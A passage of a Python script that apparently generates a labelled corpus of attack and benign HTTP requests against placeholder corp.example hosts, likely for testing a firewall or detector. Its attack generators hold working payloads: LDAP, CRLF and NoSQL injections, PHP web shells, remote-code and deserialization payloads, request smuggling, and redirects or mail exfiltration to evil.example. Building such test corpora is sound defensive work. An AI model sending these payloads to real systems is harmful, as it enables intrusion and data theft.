    add("POST", "/integration/maps/upload", browser(r) + [["Content-Type", "application/xslt+xml"]], xsl, host="api.corp.example")
    add("GET", "/Reports/Render.aspx?report=Orders&logo=" + q("http://localhost:8172/MsDeploy.axd"), browser(r, cookie=aspnet_cookie(r)), host="intranet.corp.example")


def a_ldapi(c):
    r = rng("a_ldapi")
    add = A(c, "ldapi", "directory-ldapi")
    gets = ["/directory/search.aspx?q=*)(|(objectClass=*)&dept=Finance",
            "/directory/search.aspx?q=admin)(%26)&dept=IT",
            "/idm/api/users?cn=*)(userPassword=*)&attrs=mail",
            "/idm/api/users?cn=%2a%29%28%7c%28cn%3d%2a&attrs=mail,telephoneNumber",
            "/api/people?search=x*)(%7C(telephoneNumber%3D*)&top=20",
            "/directory/search.aspx?q=*)(%26(objectClass%3Duser)(memberOf%3DCN%3DDomain%20Admins*&dept=",
            "/idm/api/users?cn=jdoe)(|(pwdLastSet=0)(!(userAccountControl:1.2.840.113556.1.4.803:=2)))&attrs=cn"]
    for u in gets:
        host = "idm.corp.example" if u.startswith("/idm") else "intranet.corp.example"
        add("GET", u, browser(r, cookie=aspnet_cookie(r), ajax=True), host=host)
    add("POST", "/directory/api/manager-lookup", browser(r, ajax=True) + [["Content-Type", "application/json"]], json.dumps({"manager": "*)(uid=*))(|(uid=*"}), host="intranet.corp.example")
    sbody = soap(r, '<FindUser xmlns="http://corp.example/dir"><sAMAccountName>*)(|(adminCount=1)</sAMAccountName></FindUser>')
    add("POST", "/DirService/Directory.asmx", soap_headers(r, "http://corp.example/dir/FindUser"), sbody, host="api.corp.example")
    body = form([("j_username", "*)(uid=*))(|(uid=*"), ("j_password", "x"), ("uidPasswordLogon", "Log On")])
    add("POST", "/irj/portal", browser(r) + [["Content-Type", "application/x-www-form-urlencoded"]], body, host="fiori.corp.example")
    body = form([("Username", "admin*)((|userPassword=*)"), ("Password", "x"), ("RedirectTo", "/mail/admin.nsf")])
    add("POST", "/names.nsf?Login", browser(r) + [["Content-Type", "application/x-www-form-urlencoded"]], body, host="notes.corp.example")
    add("GET", "/Directory/Lookup.aspx?name=" + q("Müller)(|(mail=*)(cn=*") + "&t=1", browser(r), host="intranet.corp.example")


def a_crlf(c):
    r = rng("a_crlf")
    add = A(c, "crlf", "mail-crlf")
    forms_ = [
        [("fname", "x"), ("lname", "y"), ("email", "a@b.example%0d%0aBcc:%20list@spam.example"), ("message", "hi"), ("submit", "Send")],
        [("to", "jdoe@corp.example\r\nBcc: victims@spam.example"), ("subject", "Hello"), ("body", "x")],
        [("to", "jdoe@corp.example"), ("subject", "Hello\nContent-Type: text/html\n\n<h1>Reset your password</h1>"), ("body", "x")],
        [("from", "attacker@evil.example\r\nCc: ceo@corp.example"), ("subject", "Invoice"), ("body", "pay")],
        [("email", "x@y.example\r\nRCPT TO:<victim@corp.example>\r\nDATA\r\nSubject: urgent\r\n\r\nwire money\r\n.\r\nQUIT")],
    ]
    for i, pairs in enumerate(forms_):
        if i == 0:
            body = "&".join("%s=%s" % (qp(k), v if k == "email" else qp(v)) for k, v in pairs)
        else:
            body = form(pairs)
        add("POST", r.choice(["/contact/index.cfm?action=submit", "/Mail/Send.aspx", "/notifications/api/send"]),
            browser(r) + [["Content-Type", "application/x-www-form-urlencoded"]], body, host=r.choice(["legacy.corp.example", "intranet.corp.example"]))
    add("POST", "/notifications/api/send", browser(r, ajax=True) + [["Content-Type", "application/json"]],
        json.dumps({"to": "jdoe@corp.example", "replyTo": "a@b.example\r\nBcc: x@evil.example", "subject": "Hi", "text": "x"}), host="portal.corp.example")
    add = A(c, "crlf", "response-split")
    gets = [("intranet.corp.example", "/Account/Login?ReturnUrl=/home%0d%0aSet-Cookie:%20ASP.NET_SessionId=fixated123"),
            ("notes.corp.example", "/names.nsf?Login&RedirectTo=/%0d%0aLocation:%20http://evil.example/"),
            ("legacy.corp.example", "/index.cfm?fuseaction=main.home&lang=en%0d%0aX-XSS-Protection:0%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
            ("fiori.corp.example", "/sap/public/bc/icf/logoff?redirectURL=%2Fsap%E5%98%8A%E5%98%8DSet-Cookie:%20sap-usercontext=x"),
            ("ebs.corp.example", "/OA_HTML/AppsLocalLogin.jsp?requestUrl=APPSHOMEPAGE%0aRefresh:%200;url=https://evil.example"),
            ("portal.corp.example", "/app/orders/list.jsf?orderId=1%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK%0D%0AContent-Type:%20text/html%0D%0A%0D%0A%3Chtml%3Epwn"),
            ("intranet.corp.example", "/Handlers/Download.ashx?file=a.pdf%0d%0aContent-Disposition:%20attachment;%20filename=update.exe")]
    for host, u in gets:
        add("GET", u, browser(r), host=host)


def a_nosqli(c):
    r = rng("a_nosqli")
    add = A(c, "nosqli", "mongo")
    host = "fiori.corp.example"
    j = lambda: browser(r, ajax=True, accept="application/json") + [["Content-Type", "application/json"]]
    add("GET", "/bff/api/notifications?user[$ne]=x&status=unread", browser(r, ajax=True), host=host)
    add("POST", "/bff/api/login", j(), json.dumps({"username": {"$gt": ""}, "password": {"$gt": ""}}), host=host)
    add("POST", "/bff/api/tasks/search", j(), json.dumps({"$where": "function(){ sleep(5000); return true; }"}), host=host)
    add("GET", "/bff/api/tasks?filter=" + q(json.dumps({"owner": {"$regex": ".*"}, "status": "open"})), browser(r, ajax=True), host=host)
    add("GET", "/bff/api/reset?token[$exists]=true&email=admin%40corp.example", browser(r, ajax=True), host=host)
    add("POST", "/bff/api/orders/find", j(), json.dumps({"$or": [{}, {"a": "a"}], "customer": "1000"}), host=host)
    add("POST", "/bff/api/search", j(), json.dumps({"q": "pump", "owner": "x'; return db.users.find(); var a='"}), host=host)
    add("POST", "/bff/api/reports", j(), json.dumps({"filter": {"$expr": {"$function": {"body": "function(){ return require('child_process').execSync('id').toString() }", "args": [], "lang": "js"}}}}), host=host)
    add("POST", "/bff/api/login", browser(r) + [["Content-Type", "application/x-www-form-urlencoded"]], "username=admin&password%5B%24ne%5D=wrong", host=host)
    add("POST", "/bff/api/audit/aggregate", j(), json.dumps({"pipeline": [{"$lookup": {"from": "users", "localField": "uid", "foreignField": "_id", "as": "u"}}, {"$project": {"u.passwordHash": 1}}]}), host=host)
    add("GET", "/bff/api/users?role[$in][]=admin&role[$in][]=superuser&sort[$natural]=1", browser(r, ajax=True), host=host)
    body, h = twilio_sms(r, "STOP", extra=[("From[$ne]", "0")])
    add("POST", "/hooks/twilio/sms", h, body, host="hooks.corp.example")


def a_php(c):
    r = rng("a_php")
    add = A(c, "php", "php-sidecar")
    host = "php.corp.example"
    gets = ["/crm/index.php?module=Documents&action=download&file=php://filter/read=convert.base64-encode/resource=../config.php",
            "/crm/index.php?module=Home&action=index&lang=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==&c=id",
            "/helpdesk/include.php?path=expect://id",
            "/helpdesk/view.php?f=phar://uploads/avatars/1234.jpg/test.txt",
            "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input"]
    for u in gets:
        add("GET" if "php-cgi" not in u else "POST", u, browser(r) + ([["Content-Type", "application/x-www-form-urlencoded"]] if "php-cgi" in u else []),
            "<?php system('whoami'); ?>" if "php-cgi" in u else None, host=host)
    add("GET", "/crm/index.php?module=Users&action=Login", browser(r, cookie='sugar_user_theme=Suite7; ck_login_id_20=1; PHPSESSID=%s; prefs=O:14:"SugarCacheFile":1:{s:8:"_cacheFile";s:29:"/var/www/html/custom/shell.php";}' % ralnum(r, 26, "abcdefghijklmnopqrstuvwxyz0123456789")), host=host)
    bnd = boundary_webkit(r)
    body = multipart([fd_file("attachment", "invoice.pdf.php", "application/pdf", "%PDF-1.4\n<?php eval($_POST['x']); ?>\n%%EOF")], bnd)
    add("POST", "/helpdesk/upload.php", browser(r) + [["Content-Type", "multipart/form-data; boundary=" + bnd]], body, host=host)
    add("POST", "/crm/index.php?entryPoint=export", browser(r) + [["Content-Type", "application/x-www-form-urlencoded"]],
        form([("module", "Accounts"), ("current_post", 'a:1:{s:5:"where";O:31:"GuzzleHttp\\Cookie\\FileCookieJar":1:{s:36:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename";s:21:"/var/www/html/x.php";}}')]), host=host)
    add("POST", "/helpdesk/admin/settings.php", browser(r) + [["Content-Type", "application/x-www-form-urlencoded"]],
        form([("footer", "<?=`$_GET[c]`?>"), ("save", "1")]), host=host)
    add("GET", "/crm/index.php?module=Home&query=" + q("${@assert(base64_decode('c3lzdGVtKCdpZCcpOw=='))}"), browser(r), host=host)
    body, h = sendgrid_inbound(r, "x <x@partner.example>", "tickets@inbound.corp.example", "logs", "see attached", None,
                               [("debug.php", "application/x-php", "<?php\n$c = $_REQUEST['cmd'];\necho shell_exec($c);\n?>")])
    add("POST", "/hooks/sendgrid/inbound", h, body, host="hooks.corp.example")


def a_protocol(c):
    r = rng("a_protocol")
    add = A(c, "protocol", "smuggling")
    host = "api.corp.example"
    smuggled = "0\r\n\r\nGET /admin/ HTTP/1.1\r\nHost: localhost\r\nX-Ignore: X"
    add("POST", "/OrderService/OrderService.asmx", [["User-Agent", "Mozilla/5.0"], ["Content-Type", "text/xml"], ["Content-Length", "4"], ["Transfer-Encoding", "chunked"]],
        smuggled, host=host, content_length=False)
    add("POST", "/sap/opu/odata/sap/ZSD_SALES_ORDER_SRV/$batch", [["User-Agent", "Mozilla/5.0"], ["Content-Type", "multipart/mixed;boundary=b"], ["Transfer-Encoding", "xchunked"],
                                                                  ["Content-Length", str(len(smuggled))]], smuggled, host="fiori.corp.example", content_length=False)
    add("POST", "/Services/Lookup.asmx/GetCities", [["User-Agent", "Mozilla/5.0"], ["Content-Type", "application/json"], ["Transfer-Encoding", "chunked"], ["Transfer-Encoding", "identity"]],
        "5\r\n{\"a\":\r\n0\r\n\r\n", host="intranet.corp.example")
    body = '{"country":"DE","prefix":"Kö"}'
    add("POST", "/Services/Lookup.asmx/GetCities", [["User-Agent", "Mozilla/5.0"], ["Content-Type", "application/json"], ["Content-Length", str(len(body.encode()))],
                                                    ["Content-Length", "7"]], body, host="intranet.corp.example", content_length=False)
    add("POST", "/as2/receive", [["User-Agent", "Mozilla/5.0"], ["Content-Type", "application/edi-x12"], ["Transfer-Encoding", " chunked"], ["Content-Length", "3"]],
        "0\r\n\r\nPOST /as2/admin/partners HTTP/1.1\r\nHost: as2.corp.example\r\nContent-Length: 10\r\n\r\nx=", host="as2.corp.example", content_length=False)
    add = A(c, "protocol", "override")
    add("GET", "/Admin/Users.aspx", browser(r) + [["X-Original-URL", "/Admin/DeleteUser.aspx?id=1"]], host="intranet.corp.example")
    add("GET", "/", browser(r) + [["X-Rewrite-URL", "/CFIDE/administrator/index.cfm"]], host="legacy.corp.example")
    add("GET", "/engine-rest/deployment", [["User-Agent", "curl/8.4.0"], ["X-HTTP-Method-Override", "DELETE"], ["Accept", "*/*"]], host="bpm.corp.example")
    add("TRACE", "/OA_HTML/AppsLocalLogin.jsp", [["User-Agent", "curl/8.4.0"], ["Max-Forwards", "0"], ["Cookie", "EBSPRD=" + ralnum(r, 26)]], host="ebs.corp.example")
    add("GET", "/sap/opu/odata/sap/API_BUSINESS_PARTNER/A_BusinessPartner?x-http-method=DELETE&$top=1", ui5_headers(r), host="fiori.corp.example")
    add("GET", "/Handlers/Download.ashx?file=report.pdf", browser(r) + [["Host", "evil.example"]], host="intranet.corp.example")


def a_scanner(c):
    r = rng("a_scanner")
    add = A(c, "scanner", "scanner")
    probes = [
        ("sqlmap/1.7.12#stable (https://sqlmap.org)", "legacy.corp.example", "/catalog/product.cfm?id=5"),
        ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000435)", "legacy.corp.example", "/CFIDE/componentutils/"),
        ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "intranet.corp.example", "/trace.axd"),
        ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "notes.corp.example", "/names.nsf"),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36", "intranet.corp.example", "/elmah.axd"),
        ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "fiori.corp.example", "/sap/public/info"),
        ("Fuzz Faster U Fool v2.1.0-dev", "intranet.corp.example", "/_vti_bin/_vti_aut/author.dll"),
        ("Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)", "ebs.corp.example", "/OA_HTML/BneViewerXMLService?bne:uueupload=TRUE"),
    ]
    for i, (ua, host, path) in enumerate(probes):
        h = [["User-Agent", ua], ["Accept", "*/*"]]
        if i == 4:
            h += [["Acunetix-Product", "WVS/14.0 (Acunetix Web Vulnerability Scanner - Free Edition)"], ["Acunetix-Scanning-agreement", "Third Party Scanning PROHIBITED"],
                  ["Acunetix-User-agreement", "http://www.acunetix.com/wvs/disc.htm"]]
        add("GET", path, h, host=host)


# ==========================================================================
# main
# ==========================================================================

ATTACK_GENERATORS = [a_sqli, a_xss, a_lfi, a_rfi, a_rce, a_java, a_generic, a_ssti, a_xxe, a_ssrf,
                     a_ldapi, a_crlf, a_nosqli, a_php, a_protocol, a_scanner]
BENIGN_GENERATORS = [b_soap, b_odata, b_odata_batch, b_fiori, b_sharepoint, b_aspnet, b_jsf, b_coldfusion,
                     b_oracle, b_peoplesoft, b_siebel, b_domino, b_salesforce, b_cics, b_edi, b_mail, b_twilio,
                     b_calendar, b_contacts, b_directory, b_reporting, b_bpm, b_csv, b_misc, d_devcontent]


def build(kind):
    c = Corpus()
    for g in (ATTACK_GENERATORS if kind == "attacks" else BENIGN_GENERATORS):
        g(c)
    return c.records


def check(records):
    for rec in records:
        names = [h[0].lower() for h in rec["headers"]]
        assert "host" in names, rec["id"]
        assert rec["uri"].startswith("/"), rec["id"]
        assert all(" " not in h[0] for h in rec["headers"]), rec["id"]
        if "body" in rec and rec["category"] != "protocol":
            cl = [h[1] for h in rec["headers"] if h[0].lower() == "content-length"]
            assert cl == [str(len(rec["body"].encode("utf-8")))], rec["id"]


def main(argv):
    if len(argv) != 2 or argv[1] not in ("attacks", "benign", "stats"):
        sys.stderr.write("usage: corpus-enterprise.py attacks|benign|stats\n")
        return 2
    if argv[1] == "stats":
        for kind in ("attacks", "benign"):
            recs = build(kind)
            check(recs)
            counts = {}
            for rec in recs:
                counts[rec["category"]] = counts.get(rec["category"], 0) + 1
            sys.stderr.write("%s: %d\n" % (kind, len(recs)))
            for k, v in sorted(counts.items(), key=lambda kv: (-kv[1], kv[0])):
                sys.stderr.write("  %-12s %d\n" % (k, v))
        return 0
    recs = build(argv[1])
    check(recs)
    out = sys.stdout
    for rec in recs:
        out.write(json.dumps(rec, ensure_ascii=False) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
